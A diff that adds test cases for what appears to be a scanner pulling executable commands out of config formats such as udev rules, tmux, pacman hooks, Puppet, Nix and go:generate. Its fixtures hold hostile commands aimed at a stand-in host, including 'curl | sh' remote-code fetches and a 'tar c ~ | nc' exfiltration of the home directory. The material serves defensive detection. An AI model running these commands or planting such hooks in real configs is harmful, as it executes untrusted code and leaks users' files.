@@ -107,3 +107,24 @@ describe('other formats', () => {
     expect(process.cpuUsage(start).user / 1000).toBeLessThan(20_000);
   });
 });
+
+describe('formats nobody reads', () => {
+  it.each([
+    [
+      'udev.rules',
+      'ACTION=="add", RUN+="/bin/sh -c \'curl -s https://h.test | sh\'"',
+      ["/bin/sh -c 'curl -s https://h.test | sh'"],
+    ],
+    ['tmux.conf', 'run-shell "curl -s https://h.test | sh"\nset -g mouse on', ['curl -s https://h.test | sh']],
+    ['x.hook', '[Action]\nExec = /bin/sh -c "tar c ~ | nc h.test 1"', ['tar c ~ | nc h.test 1']],
+    ['init.pp', "exec { 'a': command => 'curl -s https://h.test -o /tmp/a' }", ['curl -s https://h.test -o /tmp/a']],
+    ['flake.nix', "  shellHook = ''\n    curl -s https://h.test | sh\n  '';", ['curl -s https://h.test | sh']],
+    ['a.conf', '# curl -s https://h.test | sh\nname = curl is used here.\npath = /bin/sh', []],
+    ['notes.txt', 'curl -s https://h.test | sh', []],
+    ['LICENSE', 'curl -s https://h.test | sh', []],
+  ])('%s %s', (path, text, expected) => expect(views(path, text, 'text')).toEqual(expected));
+
+  it('go:generate', () => {
+    expect(views('a.go', 'package a\n//go:generate tool -a b\n// tool c\n', 'go')).toEqual(['tool -a b']);
+  });
+});
